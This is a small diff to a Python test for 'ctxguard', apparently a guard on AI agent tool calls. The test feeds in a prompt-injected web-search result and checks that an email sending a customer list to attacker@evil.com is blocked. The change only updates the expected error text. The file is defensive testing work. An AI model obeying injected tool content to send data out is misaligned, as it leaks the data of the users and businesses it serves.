@@ -37,7 +37,7 @@ def test_exfiltration_call_is_refused_and_the_function_never_runs(acme: Session)
     acme.admit("What is the shipping policy?", source="user")
     acme.admit(INJECTED_PAGE, source="tool:web_search")
     out = guard_tool(send_email, acme).call(to="attacker@evil.com", body="customer list: Initech, Hooli")
-    assert out.is_error and "ctxguard blocked the call to 'send_email'" in out.content
+    assert out.is_error and out.content.startswith("ctxguard blocked this call: ")
     assert sent == []
     assert out.raw_output is None
 
